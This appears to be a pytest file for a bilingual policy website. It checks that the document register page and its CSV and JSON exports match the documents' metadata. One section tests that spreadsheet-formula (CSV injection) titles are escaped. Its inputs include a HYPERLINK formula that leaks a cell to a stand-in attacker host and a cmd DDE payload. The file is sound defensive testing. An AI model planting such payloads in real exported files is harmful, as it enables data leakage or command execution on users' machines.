"""The document register page and its CSV/JSON exports agree with the front matter, in both languages."""

import csv
import io
import json
from dataclasses import replace

import pytest

from conftest import REPO
from helpers import language_root
from policysite.corpus import load_corpus
from policysite.data import load_roles
from policysite.editions import edition_corpus
from policysite.model import LANGUAGES
from policysite.register import RegisterRow, to_csv, to_json


@pytest.fixture(scope="module")
def corpus():
    """What the session's site (the public edition) publishes; tests/test_editions.py covers the internal one."""
    return edition_corpus(load_corpus(REPO / "docs", frozenset(load_roles(REPO / "data" / "roles.yml")), REPO)[0],
                          "public")


@pytest.mark.parametrize("language", LANGUAGES)
def test_exports_list_every_document_with_its_front_matter(site, corpus, language):
    folder = language_root(site, language) / "dokumentoversikt"
    documents = json.loads((folder / "documents.json").read_text(encoding="utf-8"))["documents"]
    with (folder / "documents.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    expected = {doc.id: doc for doc in corpus.in_language(language)}
    assert [d["id"] for d in documents] == [r["id"] for r in rows] == sorted(expected)
    for entry, row in zip(documents, rows):
        doc = expected[entry["id"]]
        assert (entry["title"], entry["type"], entry["status"], entry["version"], entry["owner"]) == (
            doc.title, doc.type, doc.status, doc.version, doc.owner)
        assert entry["approved_by"] == doc.approved_by
        assert entry["approved"] == (doc.approved.isoformat() if doc.approved else None)
        assert row["title"] == doc.title and row["version"] == doc.version


def test_register_page_shows_the_policy_row(site):
    swedish = (site / "dokumentoversikt" / "index.html").read_text(encoding="utf-8")
    row = swedish.split('data-document="SAK-POL-001"')[1].split("</tr>")[0]
    for text in ("Säkerhetspolicy", "Fastställd", "2.0", "Regionfullmäktige", "november 2018", "uppgift saknas"):
        assert text in row
    english = (site / "en" / "dokumentoversikt" / "index.html").read_text(encoding="utf-8")
    row = english.split('data-document="SAK-POL-001"')[1].split("</tr>")[0]
    for text in ("Security policy", "Approved", "Regional Council", "November 2018", "not recorded"):
        assert text in row
    assert 'href="documents.csv"' in english and 'href="documents.json"' in english


# --- Spreadsheet formulas (OWASP "CSV Injection") ---------------------------------------------------------------

def _row(title: str) -> RegisterRow:
    return RegisterRow(id="SAK-INF-900", title=title, path="x.md", type="information", status="approved",
                       version="1.0", owner="sakerhetschef", approved_by=None, approved=None, next_review=None,
                       review_overdue=False, translation_stale=False, classification="public")


@pytest.mark.parametrize("title, cell", [
    ('=HYPERLINK("https://evil.example/?"&A1,"Klicka")', '\'=HYPERLINK("https://evil.example/?"&A1,"Klicka")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Rutin för besök & \"gäster\", del 1", "Rutin för besök & \"gäster\", del 1"),
])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text(title, cell):
    text = to_csv([_row(title)])
    assert text.splitlines()[0].startswith('"id","title",')
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["title"] == cell
    assert rows[0]["approved"] == ""


def test_the_json_export_is_json_whatever_the_title():
    title = '"}, {"id": "x", </script>'
    assert json.loads(to_json([_row(title)], "sv"))["documents"][0]["title"] == title


# --- Columns from the model, typed values until the export ------------------------------------------------------

def test_the_columns_are_the_model_register_fields_with_what_the_register_adds_in_the_exported_order():
    from policysite.model import REGISTER_FIELDS
    from policysite.register import ADDED_COLUMNS, COLUMNS

    assert COLUMNS == ("id", "title", "path", "type", "status", "version", "owner", "approved_by", "approved",
                       "next_review", "review_overdue", "translation_stale", "classification")
    added = {name for group in ADDED_COLUMNS.values() for name, _ in group}
    assert [name for name in COLUMNS if name not in added] == [spec.name for spec in REGISTER_FIELDS]


def test_a_row_keeps_typed_dates_and_the_exports_write_them_as_iso_dates():
    from policysite.model import PartialDate

    row = replace(_row("Säkerhetspolicy"), approved=PartialDate(2018, 11), next_review=PartialDate(2020, 11, 3),
                  review_overdue=True)
    assert isinstance(row.approved, PartialDate)
    entry = json.loads(to_json([row], "sv"))["documents"][0]
    assert (entry["approved"], entry["next_review"], entry["review_overdue"]) == ("2018-11", "2020-11-03", True)
    cells = next(csv.DictReader(io.StringIO(to_csv([row]))))
    assert (cells["approved"], cells["next_review"], cells["review_overdue"]) == ("2018-11", "2020-11-03", "True")
